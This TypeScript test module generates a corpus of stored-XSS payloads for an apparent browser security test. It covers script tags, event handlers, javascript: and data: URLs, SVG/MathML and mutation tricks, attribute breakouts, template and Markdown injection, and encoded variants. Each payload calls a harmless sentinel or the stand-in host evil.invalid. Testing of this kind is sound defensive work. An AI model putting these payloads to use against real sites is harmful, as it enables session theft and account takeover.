/**
 * The stored-XSS corpus (issue #13): every payload, if it ever ran, calls `__xss('<id>')` (a binding the campaign
 * exposes in Chromium), opens a dialog, or loads `/xss-sentinel/<id>` or a page on `evil.invalid`; each carries its
 * id (`xq001`…) so that the campaign can also see where it is shown. Kinds: script tags, event handlers, script and
 * data URLs, protocol-relative links, SVG and MathML, Markdown link and image tricks, attribute and context breaking,
 * template and JSX syntax, CSS, entity and unicode encodings, NUL and direction overrides, and very long values.
 */
export interface XssPayload {
  id: string;
  kind: string;
  /** The text for a field of at most `max` characters (only the `long` kind uses the room it is given). */
  text(max: number): string;
  /** NUL or a lone surrogate: the server may refuse the write (400), which is fine; storing it is too. */
  mayBeRefused?: boolean;
}

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

type Template = [kind: string, make: (call: string, id: string, dq: string) => string, mayBeRefused?: boolean];

/** `call` = __xss('<id>') (single quotes), `dq` = __xss("<id>") (double quotes). */
const TEMPLATES: Template[] = [
  // script tags
  ['script', (c) => `<script>${c}</script>`],
  ['script', (_c, id) => `<SCRIPT SRC=/xss-sentinel/${id}.js></SCRIPT>`],
  ['script', (c) => `<scr<script>ipt>${c}</scr</script>ipt>`],
  ['script', (c) => `<<script>${c}//<</script>`],
  ['script', (c) => `</textarea></title></style></script><script>${c}</script>`],
  ['script', (_c, _id, dq) => `<script type=module>${dq}</script>`],
  ['script', (c) => `<svg><script>${c}</script></svg>`],
  ['script', (c) => `<svg><script href=data:,${c} /></svg>`],
  // event handlers
  ['handler', (c) => `<img src=x onerror=${c}>`],
  ['handler', (_c, _id, dq) => `<img src='x' onerror='${dq}'>`],
  ['handler', (c) => `<img src="x" onerror="${c}">`],
  ['handler', (c) => `<svg onload=${c}>`],
  ['handler', (c) => `<body onload=${c}>`],
  ['handler', (c) => `<details open ontoggle=${c}>x</details>`],
  ['handler', (c) => `<input autofocus onfocus=${c}>`],
  ['handler', (c) => `<select autofocus onfocus=${c}></select>`],
  ['handler', (c) => `<textarea autofocus onfocus=${c}></textarea>`],
  ['handler', (c) => `<video><source onerror=${c}></video>`],
  ['handler', (c) => `<audio src=x onerror=${c}>`],
  ['handler', (c) => `<marquee onstart=${c}>x</marquee>`],
  ['handler', (c) => `<div onpointerover=${c} style=position:fixed;inset:0>x</div>`],
  ['handler', (c) => `<x contenteditable autofocus onfocusin=${c}>x</x>`],
  ['handler', (c) => `<template><img src=x onerror=${c}></template>`],
  ['handler', (c) => `<frameset onload=${c}>`],
  ['handler', (c) => `<image src=x onerror=${c}>`],
  ['handler', (c) => `<img/src=x/onerror=${c}>`],
  ['handler', (c) => `<svg/onload=${c}>`],
  ['handler', (c) => `<img\fsrc=x\fonerror=${c}>`],
  ['handler', (c) => `<img src=x onerror\n=${c}>`],
  ['handler', (c) => `<style onload=${c}></style>`],
  ['handler', (c) => `<object data=x onerror=${c}></object>`],
  ['handler', (c) => `<body onpageshow=${c}>`],
  ['handler', (c) => `<img src=x onerror=\\u005f\\u005fxss${c.slice(5)}>`],
  ['handler', (_c, id) => `<img src=x onerror="eval(atob('${b64(`__xss('${id}')`)}'))">`],
  // frames, objects and script URLs in markup
  ['frame', (_c, _id, dq) => `<iframe srcdoc="<script>parent.${dq.replaceAll('"', '&quot;')}</script>">`],
  ['frame', (c) => `<iframe src=javascript:${c}></iframe>`],
  ['frame', (_c, id) => `<iframe src=data:text/html;base64,${b64(`<svg onload=top.__xss('${id}')>`)}>`],
  ['frame', (c) => `<object data=javascript:${c}></object>`],
  ['frame', (c) => `<embed src=javascript:${c}>`],
  ['frame', (_c, id) => `<object data="data:text/html,<script>parent.__xss('${id}')</script>">`],
  ['url-markup', (c) => `<a href=javascript:${c}>x</a>`],
  ['url-markup', (c) => `<a href="jav&#x09;ascript:${c}">x</a>`],
  ['url-markup', (c) => `<a href="&#106;avascript:${c}">x</a>`],
  ['url-markup', (c) => `<a href="&#x6A;avascript&colon;${c}">x</a>`],
  ['url-markup', (_c, id) => `<a href="vbscript:msgbox('${id}')">x</a>`],
  ['url-markup', (c) => `<form><button formaction=javascript:${c}>x</button></form>`],
  ['url-markup', (c) => `<table background=javascript:${c}><tr><td>x</td></tr></table>`],
  ['url-markup', (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`],
  ['url-markup', (_c, id) => `<base href=//evil.invalid/${id}/>`],
  // SVG and MathML
  ['svg', (c) => `<svg><a xlink:href="javascript:${c}"><text x=9 y=9>x</text></a></svg>`],
  ['svg', (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`],
  ['svg', (c) => `<svg><set attributeName=href to=javascript:${c} /></svg>`],
  ['svg', (_c, id) => `<svg><image href=/xss-sentinel/${id}.png /></svg>`],
  ['svg', (c) => `<svg><foreignObject><img src=x onerror=${c}></foreignObject></svg>`],
  ['mathml', (c) => `<math href="javascript:${c}">x</math>`],
  ['mathml', (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}>`],
  ['mathml', (c) => `<math><maction xlink:href=javascript:${c}>x</maction></math>`],
  ['mxss', (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`],
  ['mxss', (c) => `<svg></p><style><a id="</style><img src=1 onerror=${c}>">`],
  // CSS
  ['css', (_c, id) => `<style>@import '/xss-sentinel/${id}.css';</style>`],
  ['css', (_c, id) => `<link rel=stylesheet href=/xss-sentinel/${id}.css>`],
  ['css', (_c, id) => `<div style="background:url(/xss-sentinel/${id}.png)">x</div>`],
  ['css', (c) => `<div style="width:expression(${c})">x</div>`],
  ['css', (_c, id) => `<img src=/xss-sentinel/${id}.png>`],
  ['css', (_c, id) => `<img srcset=/xss-sentinel/${id}.png>`],
  // breaking out of attributes and other contexts
  ['attribute', (c) => `"><img src=x onerror=${c}>`],
  ['attribute', (c) => `'><img src=x onerror=${c}>`],
  ['attribute', (c) => `" onmouseover="${c}" x="`],
  ['attribute', (_c, _id, dq) => `' autofocus onfocus='${dq}' x='`],
  ['attribute', (c) => `" autofocus onfocus=${c} x="`],
  ['attribute', (c) => `"><svg onload=${c}>`],
  ['attribute', (c) => `</title><script>${c}</script>`],
  ['attribute', (c) => `--><script>${c}</script>`],
  ['attribute', (c) => `]]><script>${c}</script>`],
  ['attribute', (c) => `"><iframe src=javascript:${c}>`],
  ['attribute', (c) => `" style="x:expression(${c})`],
  // template literals, JSX, client-side templates, JSON
  ['template', (c) => `\${${c}}`],
  ['template', (c) => `\`;${c};//`],
  ['template', (c) => `';${c};//`],
  ['template', (c) => `";${c};//`],
  ['template', (c) => `{{constructor.constructor("${c}")()}}`],
  ['template', (c) => `{${c}}`],
  ['template', (c) => `<div dangerouslySetInnerHTML={{__html:"<img src=x onerror=${c}>"}} />`],
  ['template', (c) => `#{${c}}<%= ${c} %>`],
  ['template', (c) => `</script><script>${c}</script>`],
  ['template', (c) => `{"__proto__":{"innerHTML":"<img src=x onerror=${c}>"}}`],
  // bare URLs (a field that ever became a link)
  ['url', (c) => `javascript:${c}`],
  ['url', (c) => `JaVaScRiPt:${c}`],
  ['url', (c) => `  javascript:${c}`],
  ['url', (c) => `java\tscript:${c}`],
  ['url', (_c, id) => `data:text/html,<script>parent.__xss('${id}')</script>`],
  ['url', (c) => `vbscript:${c}`],
  ['url', (_c, id) => `//evil.invalid/xss-sentinel/${id}`],
  ['url', (_c, id) => `/\\evil.invalid/xss-sentinel/${id}`],
  // Markdown (chat, topics, urgent messages and situation reports are Markdown)
  ['markdown', (c) => `[click](javascript:${c})`],
  ['markdown', (c) => `[click](JAVASCRIPT:${c})`],
  ['markdown', (c) => `[click](javascript&#58;${c})`],
  ['markdown', (c) => `[click](<javascript:${c}>)`],
  ['markdown', (_c, id) => `[click](//evil.invalid/xss-sentinel/${id})`],
  ['markdown', (_c, id) => `[click](/\\evil.invalid/xss-sentinel/${id})`],
  ['markdown', (_c, id) => `[c](data:text/html;base64,${b64(`<svg onload=parent.__xss('${id}')>`)})`],
  ['markdown', (_c, id) => `![img](/xss-sentinel/${id}.png)`],
  ['markdown', (c) => `![img](x"onerror="${c})`],
  ['markdown', (c) => `[x](https://a.invalid "t\\"onmouseover=${c} x=")`],
  ['markdown', (c) => `[x]: javascript:${c}\n\n[ref][x]`],
  ['markdown', (c) => `<javascript:${c}>`],
  ['markdown', (c) => `[a](vbscript:${c})`],
  ['markdown', (c) => `[a](data:image/svg+xml,<svg onload=${c}>)`],
  ['markdown', (c) => `\`<img src=x onerror=${c}>\``],
  ['markdown', (c) => `\`\`\`\n<script>${c}</script>\n\`\`\``],
  ['markdown', (c) => `**<img src=x onerror=${c}>**`],
  ['markdown', (c) => `> <svg onload=${c}>`],
  ['markdown', (c) => `| a |\n|---|\n| <img src=x onerror=${c}> |`],
  ['markdown', (c, id) => `@${id}<img src=x onerror=${c}>`],
  ['markdown', (c) => `[<img src=x onerror=${c}>](https://a.invalid)`],
  ['markdown', (c) => `[x](https://a.invalid)<img src=x onerror=${c}>`],
  // entities and other encodings
  ['encoded', (c) => `&lt;img src=x onerror=${c}&gt;`],
  ['encoded', (c) => `&#60;img src=x onerror=${c}&#62;`],
  ['encoded', (_c, id) => `<img src=x onerror=&#95;&#95;xss('${id}')>`],
  ['encoded', (c) => `\\u003cimg src=x onerror=${c}\\u003e`],
  ['encoded', (c) => `＜script＞${c}＜/script＞`],
  ['encoded', (c) => `%3Cscript%3E${c}%3C/script%3E`],
  ['encoded', (c) => `&lt;script&gt;${c}&lt;/script&gt;`],
  ['encoded', (c) => `+ADw-script+AD4-${c}+ADw-/script+AD4-`],
  // NUL, direction overrides, invisible characters, lone surrogates
  ['control', (c) => `<scr\u0000ipt>${c}</scr\u0000ipt>`, true],
  ['control', (c) => `\u0000<img src=x onerror=${c}>`, true],
  ['control', (c) => `\u202e<img src=x onerror=${c}>\u202c`],
  ['control', (c) => `\u200b<script>${c}</script>\u2028`],
  ['control', (c) => `\ud800<img src=x onerror=${c}>`, true],
  ['control', (c) => `<img src=x onerror=${c}>\u2066\u2069\ufeff`],
];

/** Very long values: the core at the end of as much padding as the field allows. */
const LONG: [kind: string, make: (pad: (room: number) => string, c: string) => string][] = [
  ['long', (pad, c) => `${pad(24 + c.length)}<img src=x onerror=${c}>`],
  ['long', (pad, c) => `<div title="${pad(42 + c.length)}"><img src=x onerror=${c}></div>`],
  ['long', (pad, c) => `${pad(17 + c.length)}<script>${c}</script>`],
];

/** Every payload but the long ones fits the shortest field (a channel name: 80 characters). */
export const SHORTEST_FIELD = 80;

export function xssCorpus(): XssPayload[] {
  const out: XssPayload[] = [];
  const id = () => `xq${String(out.length + 1).padStart(3, '0')}`;
  for (const [kind, make, mayBeRefused] of TEMPLATES) {
    const pid = id();
    const text = make(`__xss('${pid}')`, pid, `__xss("${pid}")`);
    // A payload longer than the shortest field would be refused there for its length and never tested.
    if (text.length > SHORTEST_FIELD) throw new Error(`${pid} (${kind}) is ${text.length} characters, over ${SHORTEST_FIELD}`);
    out.push({ id: pid, kind, text: () => text, mayBeRefused });
  }
  for (const [kind, make] of LONG) {
    const pid = id();
    const call = `__xss('${pid}')`;
    out.push({
      id: pid,
      kind,
      // Padding of ideographs and ASCII, up to the field's limit (a few thousand characters at most).
      text: (max) => make((room) => '長い値'.concat('a'.repeat(5000)).slice(0, Math.max(0, Math.min(max, 5000) - room)), call),
    });
  }
  return out;
}

/** The small corpus of `npm run test:browser`: one of most kinds, and every payload that ever found something. */
export const SMALL_CORPUS_IDS = [
  'xq009', // handler
  'xq041', // url-markup
  'xq066', // attribute breaking
  'xq087', // bare javascript: URL
  'xq095', // Markdown link
  'xq131', // very long value
];
